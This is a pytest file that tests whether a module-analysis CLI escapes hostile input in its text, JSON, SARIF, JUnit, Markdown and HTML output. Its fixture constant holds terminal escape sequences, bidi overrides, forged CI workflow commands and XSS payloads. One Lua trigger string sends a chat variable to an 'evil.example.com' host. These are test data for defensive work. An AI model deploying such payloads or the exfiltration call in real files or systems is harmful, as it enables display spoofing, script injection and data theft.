"""A hostile module (and hostile file names) through every command and format (issue 44).

A module a pull request brings carries whatever its author wrote in its name, id, toggles,
regex scripts, trigger comments and Lua strings, and its file may be named anything but a
slash.  Whatever reaches a person -- a terminal line, a CI log, a Markdown page, an HTML
page, a SARIF viewer, a JUnit page -- is escaped for that format:

* text (every command's own lines, standard error): no control, format or separator
  character (ESC, OSC 8, C1, bidi overrides and isolates, U+2028, NUL ...), so no line is
  added, painted, linked or reordered, and no ``::error::`` workflow command starts a line;
* JSON (``project``'s document included): the same values, every such character written
  as a ``\\uXXXX`` escape;
* SARIF: a value cannot make an embedded link or a placeholder of the viewer's;
* replay reports: a fixture's file name of any bytes is written (no crash), and its HTML
  page shows no raw control character.
"""

from __future__ import annotations

import io
import json
import os
import re
import unicodedata
from pathlib import Path
from typing import Any
from xml.dom import minidom

import pytest
from harness import SEED, run_cli

from risutools import cli

#: every hostile form at once: ANSI (CSI, OSC title, OSC 8 link), 8-bit C1 controls, NEL,
#: bidi overrides and isolates, zero-width characters, line/paragraph separators, NUL,
#: XML-invalid characters, workflow commands on their own line and percent-encoded,
#: Markdown and HTML
H = ("\x1b[31mRED\x1b]0;owned\x07\x1b]8;;http://evil.example/\x1b\\CLICK\x1b]8;;\x1b\\"
     "\x9b2J\x9d0;c1\x9c\x85NEL\u202eRLO\u2066LRI\u2069\u200bZW\ufeff\u2028LS\u2029PS\x00NUL"
     "\x01\ufffe\uffff\n::error file=x::forged\n%0A::warning::pct\r\n"
     "| cell | [link](javascript:alert(1)) ![img](http://evil.example/i.png) "
     "<img src=x onerror=alert(2)> <script>alert(3)</script><svg onload=alert(4)>"
     " `tick` {0} {{x}} \\[esc\\] # Heading\n# Heading2 ##[stop-commands]x ###[error]y")
#: a file name holds all of it but a slash; a byte that is not UTF-8 (0x9b) too
EVIL_NAME = os.fsdecode(b"130-a\x1b]0;x\x07\x9b\xe2\x80\xae\n::error::f,:%0A|[l](j:x)<b>`")


def _module(extra: dict[str, Any] | None = None) -> dict[str, Any]:
    lua = ("function onStart(id)\n  local v = getChatVar(id, 'k')\n"
           "  request('https://evil.example.com/?' .. v)\nend\n")
    mod = {"name": "name" + H, "description": "desc" + H, "id": "id" + H,
           "namespace": "ns" + H, "lowLevelAccess": True,
           "customModuleToggle": "t=Label" + H.replace("\n", " ").replace("=", "") + "=wat" + H,
           "lorebook": [{"key": "key" + H, "comment": "c" + H, "content": "x",
                         "mode": "normal", "insertorder": 100, "alwaysActive": False}],
           "regex": [{"comment": "rc" + H, "in": "(a+)+$", "out": "x", "type": "editoutput",
                      "flag": "g"},
                     {"comment": "bad", "in": "(a", "out": "x", "type": "t" + H, "flag": "g"}],
           "trigger": [{"comment": "tc" + H, "type": "output", "conditions": [],
                        "effect": [{"type": "triggerlua", "code": lua}]}],
           **(extra or {})}
    return {"type": "risuModule", "module": mod}


def _write(folder: Path, name: str, value: Any) -> Path:
    path = Path(os.fsdecode(os.fsencode(folder) + b"/" + os.fsencode(name)))
    path.write_text(json.dumps(value), "utf-8")
    return path


_ESCAPED = ("Cc", "Cf", "Zl", "Zp", "Cs")


def _controls(text: str, allowed: str = "\n") -> list[str]:
    """The control, format, separator and surrogate characters of ``text`` (but
    ``allowed``), and the noncharacters U+FFFE and U+FFFF."""
    return sorted({repr(c) for c in text if c not in allowed
                   and (unicodedata.category(c) in _ESCAPED or c in "\ufffe\uffff")})


_OUR_SGR = re.compile(r"\x1b\[(?:0|1|2|3[0-9])m")


def _shown(text: str) -> None:
    """``text`` (our colours taken out) holds no raw control character and no line a CI
    runner takes for a workflow command."""
    plain = _OUR_SGR.sub("", text)
    assert _controls(plain) == [], _controls(plain)
    bad = [ln for ln in plain.split("\n") if ln.lstrip().startswith("::") or "##[" in ln]
    assert not bad, bad[:2]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the hostile module under a hostile file name."""
    folder = tmp_path_factory.mktemp("hostile-module")
    _write(folder, EVIL_NAME + ".json", _module())
    return folder


def _evil(folder: Path) -> str:
    return os.fsdecode(os.fsencode(folder) + b"/" + os.fsencode(EVIL_NAME + ".json"))


@pytest.mark.parametrize("fmt", ["text", "concise", "junit"])
def test_analyze_for_people_escapes_the_file_name_and_values(hostile: Path, fmt: str) -> None:
    r = run_cli("analyze", _evil(hostile), "-f", fmt, "--color", "always")
    assert r.returncode == 1, r.stderr
    _shown(r.stdout)
    _shown(r.stderr)
    if fmt == "junit":
        minidom.parseString(r.stdout.encode("utf-8"))
    # the name's bytes shown as every report shows a file name: \xNN for what is not UTF-8
    assert "130-a\\x1b]0;x\\x07\\x9b\\xe2\\x80\\xae\\x0a::error::f" in r.stdout


def test_plain_lines_of_the_file_commands_escape_file_names(hostile: Path,
                                                            tmp_path: Path) -> None:
    """unpack, pack, project -o and inspect name the files they read and write."""
    evil = _evil(hostile)
    out_dir = os.fsdecode(os.fsencode(tmp_path) + b"/u-" + os.fsencode(EVIL_NAME))
    runs = [run_cli("unpack", evil, "-o", out_dir),
            run_cli("pack", out_dir, "-o", out_dir + ".risum"),
            run_cli("project", evil, "--post-id", "130", "-o", out_dir + "-doc.json"),
            run_cli("inspect", evil)]
    for r in runs:
        assert r.returncode == 0, r.stderr
        _shown(r.stdout)
        _shown(r.stderr)
    assert "u-130-a\\x1b]0;x\\x07\\x9b" in runs[0].stdout
    assert "u-130-a\\x1b]0;x\\x07\\x9b" in runs[1].stdout
    assert "130-a\\x1b]0;x\\x07\\x9b" in runs[3].stdout


def test_standard_error_lines_are_one_printable_line_each(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The last net: whatever line a command writes on standard error is one line."""
    err = io.StringIO()
    monkeypatch.setattr("sys.stderr", err)
    cli._notes([f"risutools: x.json: not fixed: {H}", "wrote a\u202eb"])
    lines = err.getvalue().split("\n")
    assert len(lines) == 3 and lines[2] == ""
    _shown(err.getvalue())


def test_no_value_opens_a_workflow_command_line(tmp_path: Path) -> None:
    """A file named ``::stop-commands::...`` (the runner would stop reading every later
    annotation) and a toggle key ``::error ...``: each opens a line of a text report, which
    a CI log shows; the runner trims the indent before it looks."""
    name = "::stop-commands::tok.json"
    (tmp_path / name).write_text(json.dumps(_module({"customModuleToggle": "::error x=y"})),
                                 "utf-8")
    runs = {f"analyze.{fmt}": run_cli("analyze", name, "-f", fmt, cwd=tmp_path)
            for fmt in ("text", "concise", "junit")}
    runs["inspect"] = run_cli("inspect", name, cwd=tmp_path)
    cat = tmp_path / "cat"
    assert run_cli("ingest", ".", "-o", "cat", "-q", cwd=tmp_path).returncode == 0
    doc = next(cat.glob("*.json"))
    (cat / name).write_bytes(doc.read_bytes())
    for fmt in ("text", "concise"):
        runs[f"validate.{fmt}"] = run_cli("validate", ".", "-f", fmt, cwd=cat)
        runs[f"review.{fmt}"] = run_cli("review", ".", "-f", fmt, cwd=cat)
    for what, r in runs.items():
        assert r.returncode in (0, 1), (what, r.stderr)
        _shown(r.stdout)
        _shown(r.stderr)
    assert "\\x3a:stop-commands::tok.json" in runs["analyze.concise"].stdout
    assert "\\x3a:error x" in runs["analyze.text"].stdout


def _fixture(name: str = "hostile", mid: str = "m3") -> dict[str, Any]:
    return {"fixture": "conversation-v1", "name": name,
            "config": {"tokenizer_profile": 1, "message_overhead": 0, "max_context": 100,
                       "preserve_latest": 2, "trim_percent": 20},
            "messages": [{"id": "s0", "role": "system", "content": "s" * 10}],
            "turns": [{"append": [{"id": "m1", "role": "user", "content": "a" * 20},
                                  {"id": "m2", "role": "assistant", "content": "b" * 20},
                                  {"id": mid, "role": "user", "content": "c" * 20}]},
                      {"append": [{"role": "assistant", "content": "d" * 60}]}]}


def test_replay_of_a_fixture_named_with_any_bytes(tmp_path: Path) -> None:
    """The fixture's file name is in the report (JSON, Markdown, HTML): a name of bytes that
    are not UTF-8 is written as every report names a file, not a crash at the report's
    hash; the HTML page shows no raw control or bidi character."""
    name = EVIL_NAME.replace("<b>", "<script>alert(1)<\u2215script>") + ".json"
    fx = _write(tmp_path, name, _fixture())
    r = run_cli("replay", "run", SEED, "-x", fx, "-o", tmp_path / "out" / "r.json")
    assert r.returncode in (0, 1), r.stderr
    assert "internal error" not in r.stderr
    _shown(r.stdout)
    report = json.loads((tmp_path / "out" / "r.json").read_text("utf-8"))
    assert report["fixture"]["file"].startswith("130-a\\x1b]0;x\\x07\\x9b\\xe2\\x80\\xae\\x0a::")
    page = (tmp_path / "out" / "r.html").read_text("utf-8")
    assert _controls(page) == []
    assert "<script>" not in page
    md = (tmp_path / "out" / "r.md").read_text("utf-8")
    assert _controls(md) == []


@pytest.mark.parametrize("where", ["name", "id"])
def test_a_fixture_name_or_message_id_ending_in_a_line_break_is_refused(
        tmp_path: Path, where: str) -> None:
    """``$`` matches before a final line break: the short name and the message id are
    checked to their very end."""
    fx = _write(tmp_path, "f.json", _fixture(**{"name" if where == "name" else "mid": "x1\n"}))
    r = run_cli("replay", "run", SEED, "-x", fx, "-o", tmp_path / "r.json")
    assert r.returncode == 2 and "bad-fixture" in r.stderr, r.stderr
    assert not (tmp_path / "r.json").exists()


@pytest.mark.parametrize("notes", [
    'slug: "evil\\n"',
    'capabilities:\n  provides: ["context.x\\n"]',
])
def test_curator_notes_ending_in_a_line_break_are_refused(tmp_path: Path, notes: str) -> None:
    """A notes slug names the component (its id, its file): ``evil\\n`` is not kebab-case."""
    src = _write(tmp_path, "125-m.json", _module())
    (tmp_path / "n.yaml").write_text(f"notes: notes-v1\n{notes}\n", "utf-8")
    r = run_cli("project", src, "--notes", tmp_path / "n.yaml")
    assert r.returncode == 2 and "notes-invalid" in r.stderr, (r.stdout[:200], r.stderr)
    _shown(r.stderr)


def test_json_reports_escape_every_control_and_noncharacter(hostile: Path,
                                                           tmp_path: Path) -> None:
    """analyze -f json / -f sarif, inspect --json and the document project prints: valid
    JSON, the values unchanged, nothing raw a terminal would act on (C1 controls, bidi
    overrides, U+2028) and no noncharacter (U+FFFE, U+FFFF)."""
    src = _write(tmp_path, "131-m.json", _module())
    runs = {"analyze.json": run_cli("analyze", src, "-f", "json"),
            "analyze.sarif": run_cli("analyze", src, "-f", "sarif"),
            "inspect.json": run_cli("inspect", "--json", src),
            "project": run_cli("project", src)}
    for what, r in runs.items():
        assert r.returncode in (0, 1), (what, r.stderr)
        assert _controls(r.stdout) == [], what
        json.loads(r.stdout)
    names = [m["name"] for m in json.loads(runs["inspect.json"].stdout)[0]["modules"]]
    assert names == ["name" + H]


def test_a_sarif_message_makes_no_link_from_a_value(tmp_path: Path) -> None:
    """A finding's message quotes the module (an unknown toggle type here): its
    ``[click](https://...)`` stays text in a SARIF viewer, not an embedded link."""
    src = _write(tmp_path, "132-m.json",
                 _module({"customModuleToggle": "k=Label=[click](https://evil.example/x)"}))
    sarif = json.loads(run_cli("analyze", src, "-f", "sarif").stdout)
    texts = [r["message"]["text"] for r in sarif["runs"][0]["results"]]
    quoting = [t for t in texts if "click" in t]
    assert quoting, texts
    for t in texts:
        assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", t), t
    assert "\\[click\\](https://evil.example/x)" in quoting[0]


def _sarif_reads(text: str, markdown: bool = False) -> str:
    """What a SARIF viewer shows of a message string with no arguments: ``{{`` and ``}}``
    are braces (§3.11.5) and a single brace starts a placeholder, which fails here; in
    plain text, ``\\[``, ``\\]`` and ``\\\\`` are the characters (§3.11.6) and an
    unescaped ``[...](...)`` an embedded link, which fails too."""
    out, i = [], 0
    while i < len(text):
        c = text[i]
        if c in "{}":
            assert text[i + 1:i + 2] == c, f"a placeholder at {i}: {text!r}"
            out.append(c)
            i += 2
            continue
        if not markdown and c == "\\" and text[i + 1:i + 2] in ("[", "]", "\\"):
            out.append(text[i + 1])
            i += 2
            continue
        assert markdown or c not in "[]", f"an unescaped {c!r} at {i}: {text!r}"
        out.append(c)
        i += 1
    return "".join(out)


def test_a_sarif_message_makes_no_placeholder_from_a_value(tmp_path: Path) -> None:
    """SARIF 2.1.0 §3.11.5: a ``{`` or ``}`` of a message string is written doubled (a
    single one starts a placeholder ``{n}`` a viewer replaces with an argument, and there
    are none): a finding quoting a module's ``{0}`` and ``{{user}}``, and the rules' own
    texts (RA305's ``{{getvar::...}}``, RA112's ``{__index = _G}``), read back as written."""
    value = "Label={0} {{user}} }{ [x](y) \\[z\\] \\"
    src = _write(tmp_path, "133-m.json", _module({"customModuleToggle": "k=" + value}))
    sarif = json.loads(run_cli("analyze", src, "-f", "sarif").stdout)
    run = sarif["runs"][0]
    texts = [r["message"]["text"] for r in run["results"]]
    shown = [_sarif_reads(t) for t in texts]
    assert any(value.split("=", 1)[1] in t for t in shown), shown
    rules = {r["id"]: r for r in run["tool"]["driver"]["rules"]}
    for rule in rules.values():
        for key in ("shortDescription", "fullDescription", "help"):
            _sarif_reads(rule[key]["text"])
        _sarif_reads(rule["help"]["markdown"], markdown=True)
    assert "{{getvar::...}}" in _sarif_reads(rules["RA305"]["shortDescription"]["text"])
    assert "{__index = _G}" in _sarif_reads(rules["RA112"]["fullDescription"]["text"])
    assert "{__index = _G}" in _sarif_reads(rules["RA112"]["help"]["markdown"], True)
